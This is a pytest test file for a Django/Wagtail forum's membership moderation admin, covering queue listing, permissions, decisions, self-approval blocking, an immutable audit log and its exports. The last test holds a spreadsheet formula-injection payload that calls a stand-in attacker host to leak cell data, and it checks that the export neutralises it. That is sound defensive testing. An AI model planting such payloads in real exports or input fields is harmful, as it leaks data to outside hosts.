"""Moderators work the queue in the Wagtail admin."""

import pytest
from django.conf import settings

from forum.membership import audit
from forum.membership.models import Application, AuditEntry
from tests.accounts.mfa import force_login_with_2fa
from tests.spreadsheets import assert_neutralised, download_rows

from .conftest import make_application, make_user

QUEUE = "/admin/membership/"


def detail(application):
    return f"/admin/membership/{application.pk}/"


@pytest.fixture
def mod_client(client, moderator):
    return force_login_with_2fa(client, moderator)


def submitted_application(email, country, verified=True):
    user = make_user(email)
    application = make_application(user, country=country, full_name=f"Sample {email}")
    application.submit(by=user)
    return application


def test_queue_lists_oldest_first_with_counts_per_country(mod_client, django_assert_max_num_queries):
    first = submitted_application("a@example.org", "HU")
    second = submitted_application("b@example.org", "BE")
    submitted_application("c@example.org", "HU")
    with django_assert_max_num_queries(40):
        response = mod_client.get(QUEUE)
    assert response.status_code == 200
    page = response.content.decode()
    assert page.index(first.full_name) < page.index(second.full_name)
    assert "Hungary: <strong>2</strong>" in page and "Belgium: <strong>1</strong>" in page
    for index in range(10):
        submitted_application(f"more{index}@example.org", "NL")
    with django_assert_max_num_queries(40):
        assert mod_client.get(QUEUE).status_code == 200


def test_people_who_are_not_moderators_cannot_open_the_queue(client, db):
    editor = make_user("editor@example.org", groups=[settings.EDITORS_GROUP], is_staff=True)
    force_login_with_2fa(client, editor)
    # Wagtail turns a refusal into a redirect to the dashboard with a message.
    response = client.get(QUEUE)
    assert response.status_code in (302, 403) and "Applications queue" not in response.content.decode()
    application = submitted_application("x@example.org", "HU")
    assert client.post(detail(application), {"decision": "approve", "days": "730"}).status_code in (302, 403)
    application.refresh_from_db()
    assert application.state == Application.State.SUBMITTED


def test_detail_shows_checks_and_history(mod_client, submitted):
    page = mod_client.get(detail(submitted)).content.decode()
    assert "Professional e-mail address verified" in page
    assert "E-mail domain matches the organisation" in page
    assert "Referee is a vetted member" in page
    assert "Application submitted" in page


def test_approve_reject_and_ask_through_the_admin(mod_client, submitted, applicant):
    response = mod_client.post(detail(submitted), {"decision": "request_info", "info-message": "Your unit?"})
    assert response.status_code == 302
    submitted.refresh_from_db()
    assert submitted.state == Application.State.INFO_REQUESTED
    submitted.submit(by=applicant)
    response = mod_client.post(detail(submitted), {"decision": "approve", "days": "365"})
    assert response.status_code == 302
    submitted.refresh_from_db()
    assert submitted.state == Application.State.APPROVED
    assert (submitted.valid_until - submitted.valid_from).days == 365
    response = mod_client.post(detail(submitted), {"decision": "suspend", "suspend-reason": "Posted a victim's name."})
    submitted.refresh_from_db()
    assert submitted.state == Application.State.SUSPENDED


def test_a_decision_without_a_reason_is_refused_and_keeps_the_text(mod_client, submitted):
    response = mod_client.post(detail(submitted), {"decision": "reject", "reject-reason": ""})
    assert response.status_code == 400
    assert "Write the reason: the applicant will read it." in response.content.decode()
    response = mod_client.post(detail(submitted), {"decision": "approve", "days": "5000"})
    assert response.status_code == 400
    assert 'value="5000"' in response.content.decode()
    submitted.refresh_from_db()
    assert submitted.state == Application.State.SUBMITTED


def test_a_moderator_cannot_approve_their_own_application_by_any_route(mod_client, moderator):
    application = make_application(moderator)
    application.submit(by=moderator)
    page = mod_client.get(detail(application)).content.decode()
    assert "another moderator must decide" in page
    response = mod_client.post(detail(application), {"decision": "approve", "days": "730"})
    assert response.status_code == 400
    assert "You cannot decide on your own application" in response.content.decode()
    application.refresh_from_db()
    assert application.state == Application.State.SUBMITTED


def test_audit_log_is_readable_and_exportable_by_moderators(mod_client, submitted):
    response = mod_client.get("/admin/membership_audit/")
    assert response.status_code == 200
    assert "Application submitted" in response.content.decode()
    response = mod_client.get("/admin/membership_audit/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    assert "submitted" in content and submitted.user.email in content


def test_nobody_can_change_or_delete_audit_entries_through_the_admin(client, submitted):
    admin = make_user("root@example.org", is_staff=True, is_superuser=True)
    force_login_with_2fa(client, admin)
    entry = AuditEntry.objects.filter(subject=submitted.user).first()
    before = (entry.action, entry.reason, AuditEntry.objects.count())
    assert client.get(f"/admin/membership_audit/edit/{entry.pk}/").status_code in (403, 302, 404)
    assert client.post(f"/admin/membership_audit/edit/{entry.pk}/", {"reason": "changed"}).status_code in (
        403,
        302,
        404,
    )
    assert client.post(f"/admin/membership_audit/delete/{entry.pk}/").status_code in (403, 302, 404)
    assert client.post("/admin/membership_audit/add/", {"reason": "forged"}).status_code in (403, 302, 404)
    entry.refresh_from_db()
    assert (entry.action, entry.reason, AuditEntry.objects.count()) == before
    page = client.get(f"/admin/membership_audit/inspect/{entry.pk}/").content.decode()
    assert "/admin/membership_audit/edit/" not in page and "/admin/membership_audit/delete/" not in page


def test_audit_entries_refuse_changes_in_code(submitted):
    from django.core.exceptions import PermissionDenied

    entry = AuditEntry.objects.filter(subject=submitted.user).first()
    entry.reason = "rewritten"
    with pytest.raises(PermissionDenied):
        entry.save()
    with pytest.raises(PermissionDenied):
        entry.delete()


def test_the_menu_shows_membership_to_moderators_only(mod_client, client, db):
    assert "Applications queue" in mod_client.get("/admin/").content.decode()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_audit_log_export_neutralises_a_hostile_report_reason(mod_client, submitted, applicant, export_format):
    # What forum.community.moderation.report_post records for any reporter, vetted or not.
    reason = '=HYPERLINK("http://evil.example/?d="&D2,"Details")'
    audit.record(actor=applicant, subject=applicant, action="forum_post_reported", reason=reason, to_state="open")
    audit.record(actor=applicant, subject=applicant, action="forum_post_reported", reason="@SUM(1)", to_state="-x")

    rows = download_rows(mod_client, "/admin/membership_audit/", export_format)

    assert_neutralised(rows, [reason, "@SUM(1)", "-x"])
    assert any(applicant.email in cell for row in rows for cell in row if isinstance(cell, str))
